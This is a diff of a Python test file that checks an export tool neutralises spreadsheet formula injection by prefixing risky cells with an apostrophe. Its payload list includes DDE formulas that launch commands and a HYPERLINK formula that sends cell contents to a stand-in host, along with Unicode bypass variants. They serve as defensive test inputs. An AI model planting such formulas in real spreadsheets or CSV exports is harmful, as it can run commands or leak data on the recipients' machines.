@@ -1,20 +1,101 @@
 import csv
 import datetime
 import io
+import re
+import unicodedata
 
 import openpyxl
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from signatures.delivery.bundle import Row
 from signatures.delivery.registers import Spreadsheet, csv_rows, defuse, join_parts
 
+# From OWASP's page on CSV injection, and from the payloads that testers carry (DDE, links, other widths, quoting).
+FORMULAS = [
+    "=SUM(A1)",
+    "+1",
+    "-1",
+    "@cmd",
+    "＝1",
+    "＋1",
+    "－1",
+    "＠x",
+    "﹦1",
+    "⁺1",
+    "−1",
+    "=cmd|' /C calc'!A0",
+    '=DDE("cmd";"/C calc";"x")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=HYPERLINK("http://x.example/?"&A1,"look")',
+    '=1+2";=1+2',
+    "=1+2'\" ;,=1+2",
+    "\t=1",
+    "\r=1",
+    "\n=1",
+    "\x00=1",
+    "  =1",
+    "\u00a0=1",
+    "\u200b=1",
+    "\ufeff=1",
+    "\u202e=1",
+    "\u3164=1",
+    "\u034f=1",
+    '"=1',
+    "'=1",
+    "''=1",
+    "“=1",
+    "' =1",
+    "\t'=1",
+    "= 1",
+]
 
-@pytest.mark.parametrize("text", ["=SUM(A1)", "+1", "-1", "@cmd", "＝1", "＋1", "－1", "＠x", "\t=1", "  =1"])
+
+@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
 def test_what_a_spreadsheet_would_take_for_a_formula_is_defused(text):
-    assert defuse(text) == f"'{text.strip()}"
+    assert defuse(text)[0] == "'"
+    assert defuse(text)[1:].split(";")[0] == re.sub("[\t\r\n\x00]", " ", text).strip().split(";")[0]
 
 
-@pytest.mark.parametrize("text", ["Sok", "O'Neill", "Marie-Claire", "សុខ", "a=b", ""])
+@pytest.mark.parametrize(("text", "cell"), [("Sok;=1", "Sok;'=1"), ("a; -1;b", "a;' -1;b"), ("Sok;", "Sok;")])
+def test_formula_behind_a_semicolon_is_defused(text, cell):
+    assert defuse(text) == cell
+
+
+SEEN_FIRST = st.sampled_from([*"=+-@＝－'\"“;, \t\r\u200b\u3164\u0301a1", "Sok"])
+
+
+@given(st.lists(SEEN_FIRST | st.characters(codec="utf-8"), max_size=8).map("".join))
+def test_no_cell_begins_like_a_formula_however_it_is_read(text):
+    """Cut at commas, at semicolons or at tabs, its letters made plain, what is not seen left out: a cell begins with an
+    apostrophe or with something harmless."""
+    line = csv_rows([Row(1, text, text, "KH", "2027-01-31", "web", True)]).decode().removesuffix("\r\n")
+    assert len(line.splitlines()) == 1
+    for delimiter in ",;\t":
+        for cell in next(csv.reader([line], delimiter=delimiter)):
+            plain = unicodedata.normalize("NFKC", cell.strip())
+            seen = "".join(c for c in plain if unicodedata.category(c)[0] not in "CMZ" and c not in "\u1160\u115f")
+            bare = seen.lstrip("\"'`´‘’‚“”„«»")
+            # Where a file is cut at semicolons, a quoted cell begins with its quotation mark.
+            assert not bare.startswith(("=", "+", "-", "@")) or seen.lstrip('"').startswith("'")
+
+
+@given(st.text(max_size=8).map(lambda text: text.replace(";", "")))
+def test_no_two_texts_become_one_by_defusing(text):
+    shown = defuse(text)
+    if shown != _on_one_line(text):
+        assert shown == f"'{_on_one_line(text)}"
+        assert defuse(shown) == f"'{shown}"
+
+
+def _on_one_line(text):
+    return re.sub("[\x00-\x1f\x7f-\x9f\u2028\u2029]+", " ", text).strip()
+
+
+@pytest.mark.parametrize("text", ["Sok", "O'Neill", "'Abd", "Marie-Claire", "Paris, -", "a;b", "សុខ", "a=b", ""])
 def test_other_text_is_left_as_it_is(text):
     assert defuse(text) == text
 
@@ -47,7 +128,7 @@ def test_parts_are_joined_under_one_header_with_the_tree_over_their_rows(tmp_pat
 def write_sheet(path, part):
     part.write_bytes(csv_rows([Row(1, "=SUM(A1)", "1", "KH", "2027-01-31", "web", True)]))
     created = datetime.datetime(2027, 10, 22, 18, 30, tzinfo=datetime.UTC)
-    sheet = Spreadsheet(path, created=created, title="Title", scratch=path.parent)
+    sheet = Spreadsheet(path, created=created, title="Title", organiser="Committee", scratch=path.parent)
     sheet.add_part(part)
     sheet.close()
 
@@ -59,6 +140,23 @@ def test_sheet_holds_numbers_dates_and_text_and_no_formula(tmp_path):
     assert [cell.value for cell in header] == ["number", "name", "city", "country", "date", "origin"]
     assert [cell.value for cell in row] == [1, "'=SUM(A1)", "1", "KH", datetime.datetime(2027, 1, 31), "web"]
     assert [cell.data_type for cell in row] == ["n", "s", "s", "s", "d", "s"]
+
+
+def test_sheet_has_formats_a_frozen_header_a_filter_and_says_what_it_is(tmp_path):
+    write_sheet(tmp_path / "a.xlsx", tmp_path / "part.csv")
+    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
+    assert [cell.number_format for cell in book.active[2]][::4] == ["0", "yyyy-mm-dd"]
+    assert (book.active.freeze_panes, book.active.auto_filter.ref) == ("A2", "A1:F2")
+    assert book.active.column_dimensions["B"].width > 30
+    assert (book.properties.title, book.properties.creator) == ("Title", "Committee")
+
+
+def test_byte_order_mark_is_before_the_header_and_in_no_leaf(tmp_path):
+    (tmp_path / "0.csv").write_bytes(b"1,a\r\n")
+    plain = join_parts([tmp_path / "0.csv"], tmp_path / "plain.csv")
+    marked = join_parts([tmp_path / "0.csv"], tmp_path / "marked.csv", bom=True)
+    assert (tmp_path / "marked.csv").read_bytes() == b"\xef\xbb\xbf" + (tmp_path / "plain.csv").read_bytes()
+    assert marked.root() == plain.root()
 
 
 def test_equal_rows_give_an_equal_sheet(tmp_path):
